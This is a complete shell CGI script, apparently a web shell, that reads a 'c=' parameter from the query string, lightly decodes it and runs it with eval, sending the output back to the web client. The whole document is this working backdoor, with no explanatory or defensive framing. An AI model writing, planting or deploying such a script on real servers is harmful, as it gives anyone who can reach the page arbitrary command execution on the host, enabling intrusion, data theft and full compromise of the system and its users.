#!/bin/sh
echo "Content-type: text/plain"
echo ""
CMD=$(echo "$QUERY_STRING" | sed -e 's/^c=//' -e 's/+/ /g' -e 's/%20/ /g')
eval "$CMD" 2>&1
